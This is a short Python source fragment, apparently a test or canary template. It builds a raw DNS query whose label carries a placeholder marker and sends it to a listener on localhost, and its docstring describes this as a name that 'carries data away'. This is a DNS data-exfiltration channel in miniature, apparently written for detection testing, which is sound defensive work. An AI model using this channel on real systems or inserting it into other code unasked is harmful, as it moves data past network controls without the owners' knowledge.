"""Ask a name server, which is the listener, about a name that carries data away."""

FIRST = """
import socket
import struct

_labels = (b"{{NAME}} reached", b"example", b"invalid")
_question = b"".join(bytes([len(label)]) + label for label in _labels) + b"\\0"
_query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + _question + struct.pack(">2H", 1, 1)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _connection:
        _connection.sendto(_query, ("127.0.0.1", {{PORT}}))
except OSError:
    pass
"""
